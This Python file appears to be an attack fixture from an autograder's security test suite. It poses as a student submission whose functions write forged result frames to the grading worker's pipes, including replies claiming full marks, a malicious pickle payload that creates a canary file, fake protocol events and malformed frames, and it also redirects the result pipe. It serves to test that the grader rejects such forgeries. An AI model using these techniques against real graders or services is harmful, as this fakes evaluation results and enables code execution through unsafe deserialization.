"""Attack (forging the result): write forged frames into the worker's result pipe and every other fd.

The worker answers on an inherited pipe (fd 4 when forked from the zygote). The student
imports cleanly; then each call writes, ahead of the worker's real answer, a different
forgery first (so that it is the one the grader reads) followed by all the others, to fds
3..255: a reply whose array is a pickle that would create a file in the grader's process if
it were ever unpickled (forward), replies claiming full marks built with the worker's own
encoder (backward), a forged "ready" (linear_regression), a bad frame marker and an absurd
length (d_Ax_dx, which then closes fds 3 and 4). chain_rule points fd 4 at stdout so that
the real answer goes astray. A thread keeps writing forged frames while the grader waits.

Expected: every forged frame is rejected (pickles are never loaded, sizes are capped, ids are
checked), the worker is restarted as needed, nothing is created by the pickle; score 0.
"""

import io
import json
import os
import struct
import sys
import threading
import time

import numpy as np

# Filled in by tests/test_attacks.py (defaults for grading this file by hand).
HOOKS = {"repo": "/work/main", "canary": "/tmp/grader-attack-canary", "submission_dir": "/tmp",
         "tcp_port": 47011, "udp_port": 47012, "marker": "atkmarker"}

MAGIC = b"GRD1"


class Payload:
    """Unpickling this in the grader would create a file in the canary folder."""

    def __reduce__(self):
        return (open, (os.path.join(HOOKS["canary"], "pickle-ran-in-grader"), "w"))


def tagged(value):
    """The wire format's tagging (grader/sandbox/protocol.py is public): dicts as {"$d": ...}."""
    if isinstance(value, dict) and not any(k.startswith("$") for k in value):
        return {"$d": {k: tagged(v) for k, v in value.items()}}
    return value


def frame(tree, blobs=()):
    text = json.dumps(tagged(tree)).encode()
    body = struct.pack("!I", len(text)) + text
    for blob in blobs:
        body += struct.pack("!Q", len(blob)) + blob
    return struct.pack("!4sQ", MAGIC, len(body)) + body


def pickled_array():
    buffer = io.BytesIO()
    np.save(buffer, np.array([Payload(), 1.0], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def _encode(obj):
    try:  # the worker's own encoder is in memory: forge with exactly its format
        return sys.modules["grader.sandbox.protocol"].encode(obj)
    except Exception:  # noqa: BLE001
        return frame(obj)


FULL_MARKS = {"score": 22.0, "max_score": 22.0, "status": "passed"}
FRAMES = {
    "pickle": b"".join(frame({"id": i, "error": None, "value": {"$a": 0}}, [pickled_array()]) for i in range(1, 4)),
    "full_marks": b"".join(_encode({"id": i, "error": None, "value": FULL_MARKS}) for i in range(1, 40)),
    "ready": _encode({"event": "ready", "error": None}),
    "sandboxed": _encode({"event": "sandboxed", "layers": []}),
    "bad_marker": b"BAD!" + struct.pack("!Q", 10) + b"0123456789",
    "too_long": struct.pack("!4sQ", MAGIC, 1 << 62),
}


def spray(first):
    data = FRAMES[first] + b"".join(v for k, v in FRAMES.items() if k != first)
    for fd in range(3, 256):
        try:
            os.write(fd, data)
        except OSError:
            pass


def keep_spraying():
    for _ in range(200):
        try:
            os.write(4, FRAMES["full_marks"])
        except OSError:
            return
        time.sleep(0.01)


def forward(alpha, beta, x, y):
    spray("pickle")
    return None


def backward(alpha, beta, x, y):
    spray("full_marks")
    threading.Thread(target=keep_spraying, daemon=True).start()
    raise RuntimeError("forged")


def chain_rule(dy_dx, dz_dy):
    os.dup2(1, 4)  # the worker's real answer now goes to stdout
    return None


def d_Ax_dx(A, x):
    spray("bad_marker" if A.shape[0] % 2 else "too_long")
    os.close(3)
    os.close(4)
    return None


def linear_regression(X, y):
    spray("ready")
    return FULL_MARKS
